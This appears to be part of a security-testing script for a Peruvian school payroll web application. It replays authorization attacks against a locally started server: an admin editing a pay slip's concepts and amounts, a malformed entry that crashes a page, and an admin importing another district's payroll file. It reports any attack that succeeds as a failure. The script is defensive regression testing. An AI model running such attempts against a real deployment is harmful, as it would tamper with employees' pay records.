    marker = f"REPLAY-{uuid.uuid4().hex[:6].upper()}"

    def change_page() -> tuple[Page, str]:
        listing = admin.get("/admin/boletas/boleta/", {"q": "40000001"})
        if listing.status != 200:
            raise Unexpected(f"/admin/boletas/boleta/ respondió {listing.status}")
        links = [h for h, _t in listing.links if re.search(r"/boleta/\d+/change/", h)]
        if not links:
            raise Unexpected("la lista de boletas del admin no tiene boletas de 40000001")
        pk = re.search(r"/boleta/(\d+)/change/", links[0]).group(1)  # the latest one
        page = admin.get(links[0])
        if page.status != 200:
            raise Unexpected(f"la página de la boleta {pk} en /admin/ respondió {page.status}")
        return page, pk

    def post_concepts(page: Page, value: str) -> None:
        form = next((f for f in page.forms if f.field("_save")), None)
        editable = [
            f.name
            for f in (form.fields if form else [])
            if f.kind not in ("hidden", "submit") and "concept" in f.name
        ]
        if editable:  # otherwise read-only: nothing to change
            admin.submit(page, form, {editable[0]: value})

    def restore(pk: str, lines: list) -> None:
        """Put Rosa's boleta back (straight to the change address: its page may be broken)."""
        admin.post(
            f"/admin/boletas/boleta/{pk}/change/",
            {"csrfmiddlewaretoken": csrf_token(admin), "conceptos": json_lines(lines)},
        )
        if rosa.get(f"/boletas/mi-boleta/{pk}/que-cambio/").status != 200:
            tally.inconclusive.append(f"la boleta {pk} no se pudo dejar como estaba")

    with tally.attempt("cambiar un concepto y su monto") as attempt:
        page, pk = change_page()
        original = _concept_lines(page)
        if original:
            first = list(original[0])
            first[1], first[3] = marker, "7777.77"
            post_concepts(page, json_lines([first, *original[1:]]))
        if marker in admin.get(page.url).text:
            attempt.succeeded(f"la boleta {pk} muestra el concepto cambiado en /admin/")
        if marker in rosa.get(f"/boletas/mi-boleta/{pk}/que-cambio/").text:
            attempt.succeeded(f"«¿Qué cambió?» de Rosa muestra {marker}")
        if attempt.success:
            restore(pk, original)
    with tally.attempt("grabar una línea mal formada") as attempt:
        page, pk = change_page()
        original = _concept_lines(page)
        post_concepts(page, '[["+rim", "REMUNERACION", "INGRESO", "no-es-un-monto"], ["x"]]')
        changes = rosa.get(f"/boletas/mi-boleta/{pk}/que-cambio/")
        if changes.status >= 500:
            attempt.succeeded(f"«¿Qué cambió?» de la boleta {pk} responde {changes.status}")
            if original:
                restore(pk, original)
    return tally


def _concept_lines(page: Page) -> list[list]:
    """The concepts as the admin's editable field shows them (a JSON list), if it does."""
    for form in page.forms:
        for f in form.fields:
            if "concept" in f.name and f.kind == "textarea":
                try:
                    return json.loads(f.value)
                except ValueError:
                    return []
    return []


def json_lines(lines: list) -> str:
    return json.dumps(lines, ensure_ascii=False)


# --- 7. The boletas administrator of UGEL 07 loads a planilla of another UGEL ---------------

PLANILLA_COLUMNS = (
    "periodo,entidad_codigo,entidad_nombre,entidad_ruc,tipo_planilla,tipo_documento,"
    "numero_documento,apellido_paterno,apellido_materno,nombres,codigo_modular,tipo_servidor,"
    "cargo,establecimiento,regimen_pensionario,cuspp,fecha_ingreso,dias_laborados,"
    "concepto_codigo,concepto_descripcion,tipo_concepto,monto"
)


def ruc(first_ten: str) -> str:
    """A RUC with a valid check digit (SUNAT's modulo 11)."""
    total = sum(int(d) * w for d, w in zip(first_ten, (5, 4, 3, 2, 7, 6, 5, 4, 3, 2), strict=True))
    check = 11 - total % 11
    return first_ten + str({10: 0, 11: 1}.get(check, check))


def foreign_planilla(document: str, surname: str) -> bytes:
    """Two concept lines for a servant paid by UGEL 06 Ate (150107), last month."""
    today = time.localtime()
    year, month = (today.tm_year, today.tm_mon - 1) if today.tm_mon > 1 else (today.tm_year - 1, 12)
    person = (
        f"{year}-{month:02d},150107,UGEL 06 ATE,{ruc('2099000006')},Ley N° 29944,DNI,{document},"
        f"{surname},ATE,REPLAY,,Docente Nombrado,PROFESOR,IE 1182 ATE,SNP,,2015-03-01,30"
    )
    lines = [
        PLANILLA_COLUMNS,
        f"{person},+rim,REMUNERACION INTEGRA MENSUAL,INGRESO,2780.00",
        f"{person},-snp,SISTEMA NACIONAL DE PENSIONES,DESCUENTO,361.40",
    ]
    return ("\n".join(lines) + "\n").encode()


def path_foreign_planilla(target: Target) -> Tally:
    tally = Tally(7, "Admin de boletas de UGEL 07 carga la planilla de otra UGEL (06 Ate)")
    admin = target.session("40000101")
    document = "4" + str(int(time.time()))[-7:]
    surname = f"REPLAY{uuid.uuid4().hex[:6].upper()}"
    with tally.attempt("cargar y confirmar la planilla de UGEL 06") as attempt:
        page = admin.get("/boletas/cargar-planilla/")
        form = page.form(having="archivo")
        files = {
            "archivo": ("planilla-ugel06.csv", "text/csv", foreign_planilla(document, surname))
        }
        detail = admin.submit(page, form, files=files)
        if not re.search(r"/boletas/planillas/\d+/", detail.url):
            raise Unexpected(f"la carga no llevó al detalle ({detail.status}): {detail.messages()}")
        confirm = next((f for f in detail.forms if "/confirmar/" in f.action), None)
        if confirm is not None:
            detail = admin.submit(detail, confirm)
        search = admin.get("/boletas/personal/", {"q": document})
        if search.status != 200:
            raise Unexpected(f"/boletas/personal/ respondió {search.status}")
        if surname in search.text:
            state = re.search(r"Estado:?\s*(\w+)", detail.text)
            attempt.succeeded(
                f"la búsqueda de personal muestra a {surname} (DNI {document}) de UGEL 06"
                + (f"; importación «{state.group(1)}»" if state else "")
            )
    return tally


# --- Running them ---------------------------------------------------------------------------

PATHS = (
    path_email_change,
    path_provisioning,
    path_access_request,
    path_access_merge,
    path_own_legajo,
    path_admin_boleta,
    path_foreign_planilla,
)


def replay(url: str, var_dir: Path | None) -> list[Tally]:
    """Every path against the server at `url`, whose mails are files under var_dir/mail."""
    target = Target(url.rstrip("/"), Mailbox(var_dir / "mail" if var_dir else None))
    tallies = []
    for number, path in enumerate(PATHS, start=1):
        try:
            tally = path(target)
        except Unexpected as error:  # before its first attempt (e.g. a sign-in refused)
            tally = Tally(number, path.__name__)
            with tally.attempt("preparación"):
                raise error
        except Exception as error:  # a bug here must not hide the other paths
            tally = Tally(number, path.__name__)
            with tally.attempt("preparación"):
                raise Unexpected(f"error del script: {error!r}") from error
        tallies.append(tally)
    return tallies


def table(tallies: list[Tally]) -> str:
    width = max(len(t.title) for t in tallies) + 4
    lines = [f"{'ruta':<{width}}{'intentos':>9}{'éxitos':>8}"]
    for t in tallies:
        lines.append(
            f"{f'{t.number}. {t.title}':<{width}}{len(t.attempts):>9}{len(t.successes):>8}"
        )
        lines.extend(f"     ÉXITO: {a.what}: {a.success}" for a in t.successes)
        lines.extend(f"     no concluyente: {reason}" for reason in t.inconclusive)
    attempts = sum(len(t.attempts) for t in tallies)
    successes = sum(len(t.successes) for t in tallies)
    lines.append(f"{'total':<{width}}{attempts:>9}{successes:>8}")
    return "\n".join(lines)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@contextmanager
def platform():
    """`make run` as e2e/conftest.py's `platform` fixture starts it: (url, var dir)."""
    var_dir = Path(tempfile.mkdtemp(prefix="ayni-replay-"))
    port = _free_port()
    env = {
        **os.environ,
        "PORT": str(port),
        "AYNI_VAR_DIR": str(var_dir),
        "AYNI_CAPTCHA_TEST_MODE": "true",
        "AYNI_LOCKOUT_SECONDS": "5",
        "PYTHONUNBUFFERED": "1",
    }
    env.pop("DATABASE_URL", None)  # the README's embedded default: SQLite
    log = (var_dir / "server.log").open("w")
    server = subprocess.Popen(
        ["make", "--no-print-directory", "run"],
        cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True,
    )  # fmt: skip
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + STARTUP_SECONDS
        while True:
            try:
                with urllib.request.urlopen(f"{url}/cuenta/ingresar/", timeout=5) as response:
                    if response.status == 200:
                        break
            except OSError:
                pass
            if server.poll() is not None or time.monotonic() > deadline:
                log.flush()
                raise SystemExit(
                    "el servidor no arrancó:\n" + (var_dir / "server.log").read_text()[-3000:]
                )
            time.sleep(0.5)
        yield url, var_dir
    finally:
        if server.poll() is None:
            os.killpg(server.pid, signal.SIGTERM)
            server.wait(timeout=20)
        log.close()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--url", help="a running AYNI (AYNI_CAPTCHA_TEST_MODE=true)")
    parser.add_argument("--var-dir", type=Path, help="its AYNI_VAR_DIR (mails in DIR/mail)")
    args = parser.parse_args()
    if args.url:
        if args.var_dir is None:
            parser.error("--url needs --var-dir: the replay judges several paths by the mails")
        url, var_dir = args.url, args.var_dir
        tallies = replay(url, var_dir)
    else:
        with platform() as (url, var_dir):
            print(f"servidor: {url} (make run, AYNI_VAR_DIR={var_dir})", flush=True)
            tallies = replay(url, var_dir)
    print(f"Réplica de ataques contra {url}")
    print(table(tallies))
    return 1 if any(t.successes for t in tallies) else 0


if __name__ == "__main__":
    sys.exit(main())
